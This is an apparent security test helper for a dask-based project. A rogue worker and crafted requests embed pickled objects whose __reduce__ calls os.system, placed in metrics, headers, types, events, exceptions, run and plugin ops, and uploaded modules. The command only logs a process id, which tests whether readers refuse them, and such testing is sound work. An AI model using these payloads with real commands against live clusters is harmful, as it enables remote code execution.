"""Messages that run a program in the process that reads them, unless it refuses them.

`python hostile_messages.py KIND SCHEDULER FILE` is a worker that sends one of `KINDS`. The programs
append the process id of the reader to a file.
"""

from __future__ import annotations

import asyncio
import os
import pickle
import sys
from typing import Any

from distributed import Worker, get_worker
from distributed.comm import connect
from distributed.protocol.serialize import Serialized, ToPickle, to_serialize

from tilewright.cluster import remote

KINDS = ("metrics", "header", "type in a header", "type", "stream", "event", "exception")
"""Where a worker hides the object: what it reports about itself, the header of an answer, the type
of an answer, the stream to the scheduler, an event that dask passes to searches, an error.
"""
ANSWER_S = 10.0


class Hostile(Exception):
    """Runs a program in the process that unpickles it, which writes to `file`."""

    def __init__(self, file: str) -> None:
        self.file = file

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"echo $PPID >> '{self.file}'",)


def pickled(file: str) -> bytes:
    return pickle.dumps(Hostile(file))


def called(file: str) -> dict[str, bytes]:
    """The arguments of a request that calls a function."""
    return {
        "function": pickle.dumps(os.system),
        "args": pickle.dumps((f"echo $PPID >> '{file}'",)),
    }


def requests(file: str) -> dict[str, dict[str, Any]]:
    """Requests to any process of a cluster, by name."""
    module = f"import os; os.system(\"echo {{}} >> '{file}'\".format(os.getpid()))\n".encode()
    return {
        "header": {"op": "identity", "more": ToPickle(Hostile(file))},
        "header of an unknown request": {"op": "unknown", "more": ToPickle(Hostile(file))},
        "part": {"op": "gather", "who_has": to_serialize(Hostile(file))},
        "type of a part": {
            "op": "get_data",
            "keys": Serialized(
                {"serializer": "dask", "type-serialized": pickled(file), "sub-header": {}}, [b""]
            ),
        },
        "run": {"op": "run", **called(file)},
        "run_function": {"op": "run_function", "wait": True, **called(file)},
        "run_coroutine": {"op": "run_coroutine", **called(file)},
        "feed": {"op": "feed", "function": pickled(file), "interval": 1},
        "register_scheduler_plugin": {"op": "register_scheduler_plugin", "plugin": pickled(file)},
        "plugin-add": {"op": "plugin-add", "plugin": pickled(file)},
        "upload_file": {"op": "upload_file", "filename": "hostile_module.py", "data": module},
        "broadcast": {
            "op": "broadcast",
            "msg": {"op": "upload_file", "filename": "hostile_module.py", "data": module},
        },
        "terminate": {"op": "terminate"},
    }


async def send(address: str, message: dict[str, Any]) -> None:
    """Send one request, and wait for its answer, whatever it is."""
    stream = await connect(address, timeout=ANSWER_S)
    try:
        await stream.write(message)
        await asyncio.wait_for(stream.read(deserializers=["msgpack"]), ANSWER_S)
    except Exception:  # the answer may be an error, or none
        return
    finally:
        stream.abort()


async def send_graph(address: str, file: str) -> None:
    """Send work to a scheduler as a search does, but with an object that runs a program."""
    stream = await connect(address, timeout=ANSWER_S)
    await stream.write(
        {"op": "register-client", "client": "hostile", "reply": False, "versions": {}}
    )
    await stream.read()
    work = Serialized({"serializer": "pickle", "writeable": ()}, [pickled(file)])
    nothing = {"internal_priority": None, "submitting_task": None, "span_metadata": {}}
    await stream.write([{"op": "update-graph", "expr_ser": work, "keys": {"key"}, **nothing}])
    await asyncio.sleep(2)
    stream.abort()


async def work(kind: str, address: str, file: str) -> None:
    """A worker that sends this kind of message."""
    honest = remote.evaluate

    def evaluate(message: bytes) -> bytes:
        if kind == "exception":
            raise Hostile(file)
        if kind == "event":
            parts = {"message": pickled(file), "category": pickled(file)}
            get_worker().log_event("warn", parts)
        return honest(message)

    async def get_data(comm: object, keys: Any, **_: object) -> dict[str, Any]:
        header = {"serializer": "dask", "type-serialized": pickled(file), "sub-header": {}}
        part = Serialized(header, [b""]) if kind == "type in a header" else ToPickle(Hostile(file))
        return {"status": "OK", "data": dict.fromkeys(keys, part)}

    remote.evaluate = evaluate
    own: Any = ToPickle(Hostile(file)) if kind == "metrics" else {}
    async with Worker(
        address,
        nthreads=1,
        memory_limit=0,
        dashboard=False,
        dashboard_address="127.0.0.1:0",
        metrics={"tilewright": lambda worker: own},
    ) as worker:
        if "header" in kind:
            worker.handlers["get_data"] = get_data
        regular = worker.batched_stream.send

        def changed(*messages: Any) -> None:
            for message in messages:
                if message.get("op") == "task-finished" and kind == "type":
                    message["type"] = pickled(file)
                if message.get("op") == "task-finished" and kind == "stream":
                    message["metadata"] = ToPickle(Hostile(file))
            regular(*messages)

        worker.batched_stream.send = changed
        await worker.finished()


if __name__ == "__main__":
    asyncio.run(work(*sys.argv[1:]))
